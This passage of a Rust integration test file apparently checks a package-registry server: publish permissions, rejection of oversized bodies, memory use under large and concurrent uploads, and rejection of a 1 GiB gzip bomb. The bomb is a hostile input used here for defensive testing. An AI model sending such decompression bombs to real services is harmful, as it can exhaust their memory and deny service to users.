        .put(format!("{}/alice-t", server.served.url))
        .bearer_auth(&alice)
        .json(&simple("alice-t", "1.0.0"))
        .send()
        .unwrap();
    assert_eq!(r.status(), 200);
    let mut put = RawPut::start(&server.addr, "/alice-t", Some(&bob), size);
    let (status, error) = put.answer();
    assert_eq!(status, 403);
    assert!(
        error.contains("You do not have permission to publish"),
        "{error}"
    );
    put.close();

    // An announced body above max_body_bytes from a caller who may publish: 413 at
    // once, the body never sent.
    let mut put = RawPut::start(
        &server.addr,
        "/alice-t",
        Some(&alice),
        100 * 1024 * 1024 + 1,
    );
    let (status, error) = put.answer();
    assert_eq!(status, 413, "{error}");
    put.close();
    assert_eq!(server.ping(), 200);
}

#[test]
fn publishes_stay_within_their_memory_budget() {
    let server = Server::start(&["--max-unpacked-bytes", "83886080"]);
    let alice = server.signup("alice");

    // One 96 MiB publish: about one body's worth of memory (246 MiB before).
    let body = Arc::new(large_publish(
        "large-t",
        "1.0.0",
        &pseudo_random(70 * 1024 * 1024, 1),
    ));
    let body_mib = body.len() as f64 / MIB;
    let done = Arc::new(AtomicBool::new(false));
    let (growth, pings) = server.peak_growth_mib(|| {
        let mut put = RawPut::start(&server.addr, "/large-t", Some(&alice), body.len() as u64);
        put.send(body.clone()).join().unwrap();
        let finished = done.clone();
        let answer = std::thread::spawn(move || {
            let a = put.answer();
            finished.store(true, Ordering::SeqCst);
            a
        });
        // The runtime stays free while the body is decoded, hashed and unpacked.
        let mut pings = 0;
        while !done.load(Ordering::SeqCst) {
            assert_eq!(server.ping(), 200);
            pings += 1;
            std::thread::sleep(Duration::from_millis(20));
        }
        let (status, error) = answer.join().unwrap();
        assert_eq!(status, 200, "{error}");
        pings
    });
    println!(
        "one {body_mib:.1} MiB publish: server RSS +{growth:.1} MiB ({:.2}x the body); {pings} pings answered meanwhile",
        growth / body_mib
    );
    assert!(
        growth < body_mib * 1.25 + 16.0,
        "a {body_mib:.1} MiB publish grew the server by {growth:.1} MiB"
    );

    // Four 40 MiB publishes at once: two are processed at a time (the default).
    let bodies: Vec<Arc<Vec<u8>>> = (0..4)
        .map(|i| {
            Arc::new(large_publish(
                "many-t",
                &format!("1.0.{i}"),
                &pseudo_random(30 * 1024 * 1024, 10 + i),
            ))
        })
        .collect();
    let each_mib = bodies[0].len() as f64 / MIB;
    let (growth, ()) = server.peak_growth_mib(|| {
        let puts: Vec<RawPut> = bodies
            .iter()
            .map(|b| RawPut::start(&server.addr, "/many-t", Some(&alice), b.len() as u64))
            .collect();
        let senders: Vec<_> = puts
            .iter()
            .zip(&bodies)
            .map(|(p, b)| p.send(b.clone()))
            .collect();
        for mut put in puts {
            let (status, error) = put.answer();
            assert_eq!(status, 200, "{error}");
        }
        for s in senders {
            s.join().unwrap();
        }
    });
    println!(
        "4 × {each_mib:.1} MiB publishes at once: server RSS +{growth:.1} MiB (budget 2 × body)"
    );
    assert!(
        growth < 2.0 * (each_mib * 1.25) + 24.0,
        "4 concurrent publishes grew the server by {growth:.1} MiB"
    );

    // A gzip bomb from a token that may publish: stopped by max_unpacked_bytes.
    let bomb = Arc::new(bomb_publish("bomb-t", 1024 * 1024 * 1024));
    let (growth, ()) = server.peak_growth_mib(|| {
        let mut put = RawPut::start(&server.addr, "/bomb-t", Some(&alice), bomb.len() as u64);
        let half = Arc::new(bomb[..bomb.len() / 2].to_vec());
        put.send(half).join().unwrap();
        assert_eq!(server.ping(), 200, "ping while the upload is in progress");
        put.send(Arc::new(bomb[bomb.len() / 2..].to_vec()))
            .join()
            .unwrap();
        let (status, error) = put.answer();
        assert_eq!(status, 413, "{error}");
        assert!(error.contains("max_unpacked_bytes"), "{error}");
    });
    println!(
        "{:.1} MiB body with a 1 GiB gzip bomb, cap 80 MiB: 413, server RSS +{growth:.1} MiB",
        bomb.len() as f64 / MIB
    );
    assert!(growth < 32.0, "{growth:.1} MiB");
    assert_eq!(server.ping(), 200);
}
